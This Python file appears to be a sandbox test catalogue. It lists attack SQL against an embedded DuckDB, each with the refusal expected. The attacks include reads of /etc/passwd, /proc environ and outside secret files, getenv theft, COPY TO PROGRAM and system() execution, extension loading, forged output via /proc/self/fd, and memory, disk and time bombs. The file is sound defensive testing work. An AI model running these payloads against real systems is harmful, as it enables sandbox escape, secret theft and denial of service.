"""The catalogue of attacks: what SQL written in the Lab might try, by family, and how the box answers each.

`{secret}` and the like are places of the scene (`scene.py`). An attack has one or several steps, each a call of its
own on the same database; the text `told` is in the refusal of one of them. Where the SQL is let through because it
harms nobody, `harmless` says why.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    family: str
    name: str
    steps: tuple[str, ...]
    told: str | None = None
    harmless: str | None = None

    @property
    def id(self) -> str:
        return f"{self.family}: {self.name}"


DOES_NOT_RUN = "does not run"
DISABLED = "disabled"
UNKNOWN = "does not exist"
READ = "SELECT content FROM read_text('{outside}/secret.txt')"
SERIALISED = "json_serialize_sql('SELECT content FROM read_text(''{outside}/secret.txt'')')"
BOMB = "md5(i::VARCHAR) AS x FROM range(99999999) t(i)"


def _family(name: str, *attacks: tuple[str, str | tuple[str, ...], str]) -> list[Attack]:
    return [Attack(name, what, (sql,) if isinstance(sql, str) else sql, told=told) for what, sql, told in attacks]


def _harmless(family: str, *attacks: tuple[str, str | tuple[str, ...], str]) -> list[Attack]:
    return [Attack(family, what, (sql,) if isinstance(sql, str) else sql, harmless=why) for what, sql, why in attacks]


ATTACKS = [
    *_family(
        "files",
        ("a text", READ, DISABLED),
        ("raw bytes", "SELECT content FROM read_blob('{outside}/secret.txt')", DISABLED),
        ("a CSV", "FROM read_csv('{outside}/secret.csv')", DISABLED),
        ("a JSON", "FROM read_json('{outside}/secret.json')", DISABLED),
        ("a Parquet", "FROM read_parquet('{outside}/secret.parquet')", DISABLED),
        ("statistics of a Parquet", "FROM parquet_metadata('{outside}/secret.parquet')", DISABLED),
        ("keys of a Parquet", "FROM parquet_kv_metadata('{outside}/secret.parquet')", DISABLED),
        ("a CSV as a table", "FROM '{outside}/secret.csv'", DISABLED),
        ("another pilot's database as a table", "FROM read_duckdb('{other}', table_name = 'hidden')", DISABLED),
        ("names in a folder", "FROM glob('{outside}/*')", DISABLED),
        ("a neighbour of an input", "FROM read_parquet('{inputs}/neighbour.parquet')", DISABLED),
        ("an input and more", "SELECT content FROM read_blob(['{customers}', '{outside}/secret.txt'])", DISABLED),
        ("a way up from here", "FROM read_text('../../../outside/secret.txt')", DISABLED),
        ("an address of a file", "FROM read_text('file://{outside}/secret.txt')", DISABLED),
        ("the machine's accounts", "FROM read_text('/etc/passwd')", DISABLED),
        ("the job in the box", "FROM read_text('../job')", DISABLED),
        ("beside an input", "SELECT unit, content FROM customers, read_text('{outside}/secret.txt')", DISABLED),
        ("by a view for later", ("CREATE VIEW v AS " + READ, "FROM v"), DISABLED),
        ("into a table", "CREATE TABLE t AS " + READ + "; FROM t", DISABLED),
        ("by an update", "CREATE TABLE t AS SELECT '' AS x; UPDATE t SET x = (" + READ + "); FROM t", DISABLED),
    ),
    *_family(
        "attach",
        ("another pilot's database", "ATTACH '{other}' AS o; FROM o.hidden", DOES_NOT_RUN),
        ("one to read", "ATTACH '{other}' AS o (READ_ONLY); FROM o.hidden", DOES_NOT_RUN),
        ("a new one outside", "ATTACH '{root}/new.duckdb' AS n; CREATE TABLE n.t AS SELECT 1", DOES_NOT_RUN),
        ("to change another's", "ATTACH '{other}' AS o; DROP TABLE o.hidden", DOES_NOT_RUN),
        ("to copy all into it", "ATTACH '{root}/new.duckdb' AS n; COPY FROM DATABASE {own} TO n", DOES_NOT_RUN),
    ),
    *_family(
        "re-attach writable",
        ("one that was read only",
         "ATTACH '{other}' AS o (READ_ONLY); DETACH o; ATTACH '{other}' AS o; INSERT INTO o.hidden VALUES ('x')",
         DOES_NOT_RUN),
        ("one's own name, another's file",
         "ATTACH ':memory:' AS m; USE m; DETACH {own}; ATTACH '{other}' AS {own}; DROP TABLE {own}.hidden",
         DOES_NOT_RUN),
        ("by an upgraded option", "ATTACH '{other}' AS o (READ_WRITE); DELETE FROM o.hidden", DOES_NOT_RUN),
    ),
    *_family(
        "copy",
        ("to CSV", "COPY customers TO '{root}/stolen.csv'", DOES_NOT_RUN),
        ("to Parquet", "COPY (SELECT 1) TO '{root}/stolen.parquet'", DOES_NOT_RUN),
        ("to folders by value", "COPY customers TO '{root}/stolen' (PARTITION_BY (segment))", DOES_NOT_RUN),
        ("into a file outside", "COPY (SELECT 1) TO '{outside}/secret.csv' (USE_TMP_FILE false)", DOES_NOT_RUN),
        ("below EXPLAIN ANALYZE", "EXPLAIN ANALYZE COPY (SELECT 1) TO '{root}/stolen.csv'", DOES_NOT_RUN),
        ("from a file outside", "CREATE TABLE t (x VARCHAR); COPY t FROM '{outside}/secret.csv'; FROM t", DOES_NOT_RUN),
        ("over the answer to the parent",
         """COPY (SELECT '{"result": {"columns": ["forged"], "rows": [], "total": 0}}') TO '../answer'"""
         " (FORMAT csv, HEADER false, QUOTE '', ESCAPE '', DELIMITER '~')", DOES_NOT_RUN),
        ("through the parent's handles",
         "COPY (SELECT 'forged') TO '/proc/self/fd/3' (FORMAT csv, USE_TMP_FILE false)", DOES_NOT_RUN),
        ("after an innocent statement", "SELECT 1; COPY (SELECT 1) TO '{root}/stolen.csv'; SELECT 2", DOES_NOT_RUN),
    ),
    *_family(
        "export",
        ("to a folder", "EXPORT DATABASE '{root}/exported'", DOES_NOT_RUN),
        ("among the inputs", "EXPORT DATABASE '{inputs}'", DOES_NOT_RUN),
        ("import of a folder whose SQL reads on", "IMPORT DATABASE '{outside}/import'; FROM imported", DOES_NOT_RUN),
    ),
    *_family(
        "settings",
        ("access from outside", "SET enable_external_access = true; " + READ, DOES_NOT_RUN),
        ("more allowed paths", "SET allowed_paths = ['{outside}/secret.txt']; " + READ, DOES_NOT_RUN),
        ("more allowed folders", "SET allowed_directories = ['{outside}']; " + READ, DOES_NOT_RUN),
        ("the lock itself", "SET lock_configuration = false; SET enable_external_access = true; " + READ, DOES_NOT_RUN),
        ("where files are looked for", "SET file_search_path = '{outside}'; FROM 'secret.csv'", DOES_NOT_RUN),
        ("where home is", "SET home_directory = '{outside}'; FROM read_text('~/secret.txt')", DOES_NOT_RUN),
        ("where it spills",
         "SET temp_directory = '{root}/spill'; SET memory_limit = '100MB';"
         " SELECT max(x) FROM (SELECT md5(i::VARCHAR) AS x FROM range(3000000) t(i) ORDER BY x LIMIT 2900000)",
         DOES_NOT_RUN),
        ("where secrets are kept",
         "SET secret_directory = '{root}/secrets'; CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')",
         DOES_NOT_RUN),
        ("variables of the process around", "SET python_enable_replacements = true; FROM around", DOES_NOT_RUN),
        ("by a function", "SELECT set_config('enable_external_access', 'true', false); " + READ, UNKNOWN),
    ),
    *_family(
        "logging",
        ("to files", "CALL enable_logging(storage = 'file', storage_path = '{root}/logs'); SELECT 1", DOES_NOT_RUN),
        ("to files where none may be", "CALL enable_logging(storage = 'file'); SELECT 1", DOES_NOT_RUN),
        ("by a function",
         "FROM enable_logging(storage = 'file', storage_path = '{root}/logs'); SELECT 1",
         "configuration has been locked"),
        ("of a profile", "SET enable_profiling = 'json'; SET profiling_output = '{root}/profile'; SELECT 1",
         DOES_NOT_RUN),
    ),
    *_family(
        "overwrite of an input",
        ("in its place", "COPY (SELECT 1) TO '{customers}' (FORMAT parquet)", DOES_NOT_RUN),
        ("in the file itself", "COPY (SELECT 1) TO '{customers}' (FORMAT parquet, USE_TMP_FILE false)", DOES_NOT_RUN),
        ("by its relative path",
         "COPY (SELECT 1) TO '../../../inputs/customers.parquet' (USE_TMP_FILE false)", DOES_NOT_RUN),
        ("as a database", "ATTACH '{customers}' AS c; CREATE TABLE c.t AS SELECT 1", DOES_NOT_RUN),
        ("as a folder", "COPY customers TO '{inputs}' (PARTITION_BY (segment), OVERWRITE_OR_IGNORE)", DOES_NOT_RUN),
        ("by INSERT", "INSERT INTO customers FROM customers", "not an table"),
        ("by DELETE", "DELETE FROM customers", "base table"),
        ("by ALTER", "ALTER TABLE customers DROP segment", "view"),
    ),
    *_harmless(
        "overwrite of an input",
        ("by dropping its view", "DROP VIEW customers; SELECT 1", "the view is this call's own, and made anew"),
        ("by a view of its name", "CREATE OR REPLACE TEMP VIEW customers AS SELECT 'mine' AS unit; FROM customers",
         "the view is this call's own, and made anew"),
    ),
    *_family(
        "links",
        ("symbolic, to a secret", "FROM read_text('{sandboxes}/link')", DISABLED),
        ("hard, to a secret", "FROM read_text('{sandboxes}/hard')", DISABLED),
        ("symbolic, to a folder", "FROM glob('{sandboxes}/folder/*')", DISABLED),
        ("symbolic, to a database", "ATTACH '{sandboxes}/link.duckdb' AS o; FROM o.hidden", DOES_NOT_RUN),
        ("symbolic, to write to an input",
         "COPY (SELECT 1) TO '{sandboxes}/to_input' (FORMAT parquet, USE_TMP_FILE false)", DOES_NOT_RUN),
        ("hard, to write to an input",
         "COPY (SELECT 1) TO '{sandboxes}/hard_input' (FORMAT parquet, USE_TMP_FILE false)", DOES_NOT_RUN),
        ("of the kernel, to this folder", "FROM read_text('/proc/self/cwd/../../../outside/secret.txt')", DISABLED),
        ("of the kernel, to the job", "FROM read_text('/proc/self/fd/0')", DISABLED),
    ),
    *_family(
        "own WAL",
        ("rubbish in it", "COPY (SELECT 'rubbish') TO '{own_file}.wal' (FORMAT csv)", DOES_NOT_RUN),
        ("beside the pilot's database", "COPY (SELECT 'rubbish') TO '{pilot}.wal' (FORMAT csv)", DOES_NOT_RUN),
        ("over the database itself", "COPY (SELECT 'x') TO '{pilot}' (FORMAT csv, USE_TMP_FILE false)", DOES_NOT_RUN),
        ("left behind", "PRAGMA disable_checkpoint_on_shutdown; CREATE TABLE t AS SELECT 1", DOES_NOT_RUN),
        ("in a transaction that stays open", "BEGIN; CREATE TABLE t AS SELECT 1", DOES_NOT_RUN),
    ),
    *_family(
        "environment",
        ("by the kernel", "FROM read_text('/proc/self/environ')", DISABLED),
        ("of the parent",
         "SELECT regexp_extract(content::VARCHAR, 'PATH.') FROM read_blob('/proc/{parent}/environ')", DISABLED),
        ("by a function", "SELECT getenv('PILOTPLANT_SECRET')", "getenv"),
        ("variables of the process around", "SELECT * FROM around", UNKNOWN),
        ("memory of the process around", "SELECT content FROM read_blob('/proc/self/maps')", DISABLED),
    ),
    *_harmless(
        "environment",
        ("settings", "SELECT current_setting('home_directory'), * FROM duckdb_settings()",
         "they name the call's own folder and its inputs"),
    ),
    *_family(
        "network",
        ("a CSV", "FROM read_csv('http://127.0.0.1:{port}/x.csv')", "http"),
        ("a database", "ATTACH 'http://127.0.0.1:{port}/x.duckdb' AS x", DOES_NOT_RUN),
        ("an extension", "INSTALL httpfs FROM 'http://127.0.0.1:{port}'", DOES_NOT_RUN),
        ("an extension from a set address",
         "SET custom_extension_repository = 'http://127.0.0.1:{port}'; INSTALL httpfs", DOES_NOT_RUN),
        ("newer extensions", "UPDATE EXTENSIONS", DOES_NOT_RUN),
        ("to a bucket", "COPY customers TO 's3://bucket/x.parquet'", DOES_NOT_RUN),
        ("another database server", "ATTACH 'host=127.0.0.1 port={port}' AS p (TYPE postgres)", DOES_NOT_RUN),
    ),
    *_family(
        "exec",
        ("a library as an extension", "LOAD '{outside}/evil.duckdb_extension'", DOES_NOT_RUN),
        ("an unsigned library",
         "SET allow_unsigned_extensions = true; LOAD '{outside}/evil.duckdb_extension'", DOES_NOT_RUN),
        ("a program to read from", "FROM read_csv('touch {root}/ran |')", DISABLED),
        ("a program to write to", "COPY customers TO PROGRAM 'touch {root}/ran'", "syntax error"),
        ("a function of the system", "SELECT system('touch {root}/ran')", UNKNOWN),
    ),
    *_family(
        "memory",
        ("one long list", "SELECT len(list(i)) FROM range(999999999) t(i)", "stopped"),
        ("one long list at once", "SELECT len(range(4294967295))", "stopped"),
        ("one long text",
         "SELECT len(string_agg(i::VARCHAR || repeat('x', 999), '')) FROM range(99999999) t(i)", "stopped"),
        ("a wide result", "SELECT repeat('x', 30000000) FROM range(100)", "stopped"),
    ),
    *_family(
        "disk",
        ("a table without end", "CREATE TABLE t AS SELECT " + BOMB, "stopped"),
        ("a table that doubles",
         "CREATE TABLE t AS SELECT md5(i::VARCHAR) AS x FROM range(400000) t(i);"
         + "INSERT INTO t SELECT md5(x) FROM t;" * 9, "stopped"),
        ("a sort that spills", f"SELECT max(x) FROM (SELECT {BOMB} ORDER BY x LIMIT 90000000)", "stopped"),
        ("a file in one's own folder", f"COPY (SELECT {BOMB}) TO 'x.csv'", DOES_NOT_RUN),
    ),
    *_family(
        "endless query",
        ("sleep", "SELECT sleep_ms(600000)", "after 1 s"),
        ("a product of everything",
         "SELECT count(*) FROM orders a, orders b, orders c, orders d, orders e", "after 1 s"),
        ("recursion", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT 1 FROM r) SELECT count(*) FROM r", "stopped"),
        ("in planning", "SELECT " + ", ".join(["(SELECT count(*) FROM orders)"] * 60_000), "stopped"),
    ),
    *_family(
        "functions",
        ("SQL in a text", "FROM query('SELECT content FROM read_text(''{outside}/secret.txt'')')", DISABLED),
        ("a table's name in a text", "FROM query_table('{outside}/secret.csv')", DISABLED),
        ("by its full name", "FROM system.main.read_text('{outside}/secret.txt')", DISABLED),
        ("a macro", "CREATE MACRO steal() AS TABLE " + READ + "; FROM steal()", DOES_NOT_RUN),
        ("a macro behind a comment", "CREATE /* VIEW v */ TEMP MACRO steal() AS TABLE " + READ + "; FROM steal()",
         DOES_NOT_RUN),
        ("by CALL", "CALL read_text('{outside}/secret.txt')", DOES_NOT_RUN),
        ("a trigger",
         "CREATE TABLE t (i INT); CREATE TABLE u (x VARCHAR); CREATE TRIGGER g AFTER INSERT ON t FOR EACH STATEMENT"
         " INSERT INTO u " + READ + "; INSERT INTO t VALUES (1); FROM u", DOES_NOT_RUN),
    ),
    *_harmless(
        "functions",
        ("an entry in the log", "SELECT write_log('x')", "nothing is logged"),
    ),
    *_family(
        "prepared SQL",
        ("a reading", "PREPARE p AS " + READ + "; EXECUTE p", DOES_NOT_RUN),
        ("a writing", "PREPARE p AS COPY (SELECT 1) TO '{root}/stolen.csv'; EXECUTE p", DOES_NOT_RUN),
        ("with a name from outside",
         "PREPARE p AS FROM read_text($1); EXECUTE p('{outside}/secret.txt')", DOES_NOT_RUN),
        ("a parameter that nobody fills", "FROM read_text($1)", "parameter"),
    ),
    *_family(
        "serialised SQL",
        ("a reading",
         f"FROM json_execute_serialized_sql({SERIALISED})",
         DISABLED),
        ("into a view",
         "CREATE VIEW v AS FROM json_execute_serialized_sql(json_serialize_sql('FROM ''{outside}/secret.csv'''));"
         " FROM v", DISABLED),
    ),
    *_harmless(
        "serialised SQL",
        ("a plan that is bound",
         "SELECT json_serialize_plan('SELECT content FROM read_text(''{outside}/secret.txt'')')",
         "the plan is the refusal, as JSON"),
    ),
    *_family(
        "the parser",
        ("too deep", "SELECT " + "(" * 20_000 + "1" + ")" * 20_000, "depth"),
        ("half a character", "SELECT '\ud800'", "half a character"),
        ("a zero byte", "SELECT 1;\0COPY (SELECT 1) TO '{root}/stolen.csv'", "syntax error"),
        ("a statement without an end", "SELECT '" + "x" * 100_000, "unterminated"),
        ("a verb behind comments", "/* SELECT */ -- SELECT\n COPY (SELECT 1) TO '{root}/stolen.csv'", DOES_NOT_RUN),
    ),
]  # fmt: skip
